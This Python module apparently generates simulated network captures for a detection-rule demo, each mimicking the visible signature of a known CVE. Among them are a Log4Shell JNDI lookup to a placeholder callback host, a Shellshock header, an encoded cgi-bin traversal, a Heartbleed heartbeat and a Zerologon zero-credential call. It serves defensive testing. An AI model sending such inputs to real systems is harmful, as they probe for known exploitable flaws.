"""What the demo's conversations say: harmless marker texts in the shape of the attacks' visible part.

No payload here does anything to anybody: there is no code in them, no overflow and no working request, only the few
bytes by which the rules of `vatriage-demo.rules` (ours as well) know them. Each function returns the turns of one conversation.
"""

import struct

from vatriage_simulator.demo.captures import Turn

ID_OUTPUT = b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"
"""What the `id` command prints; the sign that a command ran."""

_BROWSER = b"Mozilla/5.0 (X11; Linux x86_64) DemoBrowser/1.0"


def _request(line: bytes, *, agent: bytes = _BROWSER, extra: bytes = b"", host: bytes = b"www.demo.example") -> bytes:
    return line + b" HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: " + agent + b"\r\n" + extra + b"\r\n"


def _response(status: bytes, body: bytes, kind: bytes = b"text/html") -> bytes:
    size = str(len(body)).encode()
    return b"HTTP/1.1 " + status + b"\r\nContent-Type: " + kind + b"\r\nContent-Length: " + size + b"\r\n\r\n" + body


def _dialogue(request: bytes, response: bytes) -> list[Turn]:
    return [Turn(True, request), Turn(False, response)]


def page() -> list[Turn]:
    """A page is read."""
    body = b"<html><body>" + b"<p>The demo's shop window.</p>" * 80 + b"</body></html>"
    return _dialogue(_request(b"GET /index.html"), _response(b"200 OK", body))


def missing_page() -> list[Turn]:
    """A page is asked for that is not there."""
    return _dialogue(_request(b"GET /favicon.ico"), _response(b"404 Not Found", b"<h1>Not Found</h1>"))


def traversal() -> list[Turn]:
    """Path traversal with an encoded dot (CVE-2021-41773)."""
    line = b"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/demo/marker"
    return _dialogue(_request(line), _response(b"404 Not Found", b"<h1>Not Found</h1>"))


def log4shell() -> list[Turn]:
    """A lookup in a header that servers like to log (CVE-2021-44228)."""
    request = _request(b"GET /", agent=b"${jndi:ldap://callback.demo.invalid/marker}")
    return _dialogue(request, _response(b"200 OK", b"<h1>It works</h1>"))


def shellshock(answer: bytes = b"<h1>Status</h1>") -> list[Turn]:
    """A header that begins like a shell function (CVE-2014-6271)."""
    request = _request(b"GET /cgi-bin/status", agent=b"() { :; }; echo; vatriage-demo-marker")
    return _dialogue(request, _response(b"200 OK", answer, b"text/plain"))


def shellshock_with_output() -> list[Turn]:
    """The same, and the answer looks as if a command had run."""
    return shellshock(ID_OUTPUT)


def tutorial_page() -> list[Turn]:
    """A harmless page that shows what `id` prints: an outcome without an attempt."""
    body = b"<h1>Lesson 3: who am I?</h1><pre>" + ID_OUTPUT + b"</pre>"
    return _dialogue(_request(b"GET /lessons/3.html"), _response(b"200 OK", body))


def trace() -> list[Turn]:
    """The TRACE method (CVE-2004-2320)."""
    request = _request(b"TRACE /")
    return _dialogue(request, _response(b"405 Method Not Allowed", b"<h1>Not allowed</h1>"))


def basic_authorization() -> list[Turn]:
    """A login in clear text; the name and word are the demo's (demo:demo)."""
    request = _request(b"GET /admin", extra=b"Authorization: Basic ZGVtbzpkZW1v\r\n")
    return _dialogue(request, _response(b"401 Unauthorized", b"<h1>No</h1>"))


def proxy_whitespace() -> list[Turn]:
    """A request to a proxy whose URL holds a blank (the kind of request CVE-2020-25097 is about)."""
    request = _request(b"GET http://intranet.demo.example/a /vatriage-demo-marker", host=b"intranet.demo.example")
    return _dialogue(request, _response(b"400 Bad Request", b"<h1>Bad request</h1>"))


def java_archive() -> list[Turn]:
    """A browser is handed a Java archive (the way in of CVE-2016-0636); the archive is no archive."""
    body = b"PK\x03\x04" + bytes(26) + b"demo/VatriageDemoApplet.class" + bytes(64)
    request = _request(b"GET /game/start.jar", agent=b"Java/1.8.0_73", host=b"games.demo.invalid")
    return _dialogue(request, _response(b"200 OK", body, b"application/java-archive"))


def heartbleed() -> list[Turn]:
    """A heartbeat that claims 16384 bytes and brings none (CVE-2014-0160), before any encryption."""
    return [
        Turn(True, _tls_record(22, _client_hello())),
        Turn(False, _tls_record(22, _server_hello())),
        Turn(True, b"\x18\x03\x02\x00\x03\x01\x40\x00"),
    ]


def tls_session() -> list[Turn]:
    """An ordinary TLS session that is resumed, so that no certificate is needed; what follows is unreadable."""
    change, finished, secret = _tls_record(20, b"\x01"), _tls_record(22, bytes(range(40))), _tls_record(23, bytes(64))
    return [
        Turn(True, _tls_record(22, _client_hello())),
        Turn(False, _tls_record(22, _server_hello()) + change + finished),
        Turn(True, change + finished + secret),
        Turn(False, secret),
    ]


def smb_trans2() -> list[Turn]:
    """An SMB1 TRANSACTION2 request with the subcommand SESSION_SETUP (CVE-2017-0144); no data follows."""
    header = b"\xffSMB\x32" + bytes(4) + b"\x18\x07\xc0" + bytes(20)
    words = b"\x0f" + bytes(26) + b"\x01\x00\x0e\x00"
    return [Turn(True, _netbios(header + words)), Turn(False, _netbios(b"\xffSMB\x32\x02\x00\x00\xc0" + bytes(26)))]


def rdp_ms_t120() -> list[Turn]:
    """A client that asks for the channel MS_T120 (CVE-2019-0708)."""
    channels = b"\x03\xc0\x14\x00\x01\x00\x00\x00MS_T120\x00\x00\x00\x00\x00"
    return [
        Turn(True, _tpkt(b"\x02\xf0\x80\x7f\x65" + bytes(24) + channels)),
        Turn(False, _tpkt(b"\x02\xf0\x80\x7f\x66")),
    ]


def rdp_no_channels() -> list[Turn]:
    """A client that allows no channel at all (CVE-2012-0002)."""
    limits = b"\x30\x1a\x02\x01\x22\x02\x01\x00\x02\x01\x00\x02\x01\x01\x02\x01\x00\x02\x01\x01"
    return [Turn(True, _tpkt(b"\x02\xf0\x80\x7f\x65" + limits)), Turn(False, _tpkt(b"\x02\xf0\x80\x7f\x66"))]


def netlogon_zeros() -> list[Turn]:
    """A call of NetrServerAuthenticate3 with a credential of eight zeros (CVE-2020-1472)."""
    call = b"\x00\x00" + b"\x1a\x00"  # context 0, operation 26
    names = "\\\\DEMO-DC\0".encode("utf-16-le")
    body = bytes(4) + call + names + bytes(8) + b"\xff\xff\x2f\x21"
    head = b"\x05\x00\x00\x03\x10\x00\x00\x00" + struct.pack("<HHI", 16 + len(body), 0, 1)
    return [Turn(True, head + body), Turn(False, b"\x05\x00\x03\x03\x10\x00\x00\x00" + bytes(16))]


def ntp_monlist() -> list[Turn]:
    """The private request 42, "monlist" (CVE-2013-5211)."""
    return [Turn(True, b"\x17\x00\x03\x2a" + bytes(4))]


def ntp_time() -> list[Turn]:
    """An ordinary question for the time and its answer."""
    return [Turn(True, b"\x23" + bytes(47)), Turn(False, b"\x24\x02" + bytes(46))]


def ssdp_notify() -> list[Turn]:
    """A device tells all who listen that it is there (the kind of message CVE-2001-0876 is about)."""
    lines = [b"NOTIFY * HTTP/1.1", b"HOST: 239.255.255.250:1900", b"LOCATION: http://10.20.10.60:49152/d.xml"]
    return [Turn(True, b"\r\n".join([*lines, b"NT: upnp:rootdevice", b"NTS: ssdp:alive", b"", b""]))]


def name_lookup() -> list[Turn]:
    """A question for an A record of demo.example and its answer."""
    question = b"\x04demo\x07example\x00\x00\x01\x00\x01"
    answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04\x0a\x14\x00\x0a"
    return [
        Turn(True, b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + question),
        Turn(False, b"\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + question + answer),
    ]


def shell_banner() -> list[Turn]:
    """Two SSH versions greet each other."""
    return [Turn(False, b"SSH-2.0-OpenSSH_9.2\r\n"), Turn(True, b"SSH-2.0-OpenSSH_9.6\r\n")]


def _tls_record(kind: int, body: bytes) -> bytes:
    return struct.pack("!BHH", kind, 0x0302, len(body)) + body


def _client_hello() -> bytes:
    body = b"\x03\x02" + bytes(range(32)) + _SESSION + b"\x00\x04\x00\x2f\x00\x35" + b"\x01\x00"
    return _handshake(1, body + _sized(_server_name() + _HEARTBEATS))


def _server_hello() -> bytes:
    body = b"\x03\x02" + bytes(range(32, 64)) + _SESSION + b"\x00\x2f" + b"\x00"
    return _handshake(2, body + _sized(_HEARTBEATS))


_SESSION = b"\x20" + b"vatriage-demo-session-identifier"
"""A session id of 32 bytes with its length."""

_HEARTBEATS = b"\x00\x0f\x00\x01\x01"
"""The extension by which an end allows the other to send heartbeats (RFC 6520 section 2)."""


def _server_name() -> bytes:
    name = b"www.demo.example"
    return b"\x00\x00" + _sized(_sized(b"\x00" + _sized(name)))


def _handshake(kind: int, body: bytes) -> bytes:
    return bytes([kind]) + struct.pack("!I", len(body))[1:] + body


def _sized(data: bytes) -> bytes:
    return struct.pack("!H", len(data)) + data


def _netbios(body: bytes) -> bytes:
    return struct.pack("!I", len(body)) + body


def _tpkt(body: bytes) -> bytes:
    return b"\x03\x00" + struct.pack("!H", 4 + len(body)) + body
